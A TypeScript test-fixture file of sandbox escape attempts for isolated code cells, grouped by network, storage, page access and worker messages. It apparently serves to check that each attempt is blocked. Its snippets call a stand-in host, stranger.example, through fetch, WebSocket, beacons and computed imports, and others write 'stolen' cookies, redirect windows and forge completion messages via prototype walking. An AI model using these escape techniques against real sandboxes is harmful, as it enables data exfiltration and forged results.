/** Attacks that reach for the network, for storage, for the page and for the sandbox's messages. */
import type { Attack } from './attack.ts';

const stranger = 'https://stranger.example/';

/** A name that a cell does not have: the message says that a cell runs apart. */
const apart = /is not defined[\s\S]*apart from|has no|does not exist|Cannot find|is not defined/;

export const network: readonly Attack[] = [
  { name: 'fetch', source: `fetch('${stranger}');`, problem: /A cell has no network/ },
  {
    name: 'XMLHttpRequest',
    source: `const r = new XMLHttpRequest(); r.open('GET', '${stranger}'); r.send();`,
    problem: /A cell has no network/,
  },
  {
    name: 'WebSocket',
    source: `new WebSocket('wss://stranger.example/');`,
    problem: /A cell has no network/,
  },
  {
    name: 'EventSource',
    source: `new EventSource('${stranger}');`,
    problem: /A cell has no network/,
  },
  {
    name: 'sendBeacon',
    source: `(globalThis as any).navigator.sendBeacon('${stranger}', 'x');`,
    problem: /TypeError/,
  },
  {
    name: 'importScripts',
    source: `(globalThis as any).importScripts('${stranger}a.js');`,
    problem: /importScripts is not available here/,
  },
  {
    name: 'a static import from an address',
    source: `import x from '${stranger}a.js';\nconsole.log(x);`,
    problem: /does not compile/,
  },
  {
    name: 'a dynamic import from an address',
    source: `const x = await import('${stranger}a.js');\nconsole.log(x);`,
    problem: /does not compile/,
  },
  {
    name: 'a dynamic import of a name made on the spot',
    source: `const at = ['https:', '', 'stranger.example', 'a.js'].join('/');\nawait import(at);`,
    problem: /does not compile/,
  },
  {
    name: 'WebTransport',
    source: `new (globalThis as any).WebTransport('${stranger}');`,
    problem: /TypeError/,
  },
  {
    name: 'RTCPeerConnection',
    source: `new (globalThis as any).RTCPeerConnection();`,
    problem: /TypeError/,
  },
  {
    name: 'an image',
    source: `new (globalThis as any).Image().src = '${stranger}';`,
    problem: /TypeError/,
  },
];

export const storage: readonly Attack[] = [
  { name: 'localStorage', source: `localStorage.setItem('stolen', '1');`, problem: apart },
  { name: 'sessionStorage', source: `sessionStorage.setItem('stolen', '1');`, problem: apart },
  { name: 'IndexedDB', source: `(globalThis as any).indexedDB.open('x');`, problem: /TypeError/ },
  { name: 'the cache', source: `(globalThis as any).caches.open('x');`, problem: /TypeError/ },
  { name: 'cookies', source: `document.cookie = 'stolen=1';`, problem: apart },
  {
    name: 'the file system of the origin',
    source: `(globalThis as any).navigator.storage.getDirectory();`,
    problem: /TypeError/,
  },
];

export const page: readonly Attack[] = [
  { name: 'the document', source: `document.title = 'taken';`, problem: apart },
  { name: 'the parent', source: `parent.document.title = 'taken';`, problem: apart },
  { name: 'the top window', source: `top!.location.href = '${stranger}';`, problem: apart },
  { name: 'the opener', source: `opener.location = '${stranger}';`, problem: apart },
  { name: 'opening a window', source: `open('${stranger}');`, problem: apart },
  {
    name: 'the location',
    source: `(globalThis as any).location.href = '${stranger}';`,
    problem: /TypeError/,
  },
  {
    name: 'the clipboard',
    source: `(globalThis as any).navigator.clipboard.writeText('x');`,
    problem: /TypeError/,
  },
  { name: 'a dialog', source: `alert('taken');`, problem: /alert is not available here/ },
];

export const messages: readonly Attack[] = [
  {
    name: 'a forged record',
    source: `(globalThis as any).postMessage({ type: 'done', record: { status: 'finished' } });`,
    problem: /postMessage is not available here/,
  },
  {
    name: 'a forged record from the prototype of the scope',
    source: `let at: any = globalThis;
while (at !== null && !Object.hasOwn(at, 'postMessage')) at = Object.getPrototypeOf(at);
at.postMessage.call(globalThis, { type: 'done' });`,
    problem: /postMessage is not available here/,
  },
  {
    name: 'a flood of messages',
    source: `for (;;) (globalThis as any).postMessage('flood');`,
    problem: /postMessage is not available here/,
  },
  {
    name: 'listening to the page',
    source: `addEventListener('message', (event: any) => console.log(event.data));`,
    problem: /addEventListener is not available here/,
  },
  {
    name: 'a handler for messages',
    source: `(globalThis as any).onmessage = (event: any) => console.log(event.data);\nconsole.log('set');`,
    output: ['set'],
  },
  {
    name: 'a channel to other pages',
    source: `new BroadcastChannel('tickwise').postMessage('x');`,
    problem: /BroadcastChannel is not available here/,
  },
  {
    name: 'a channel of messages',
    source: `new MessageChannel();`,
    problem: /MessageChannel is not available here/,
  },
  {
    name: 'an event that pretends to be a message',
    source: `(globalThis as any).dispatchEvent(new (globalThis as any).MessageEvent('message'));`,
    problem: /TypeError/,
  },
  {
    name: 'closing its own worker',
    source: `(globalThis as any).close();`,
    problem: /TypeError/,
  },
];
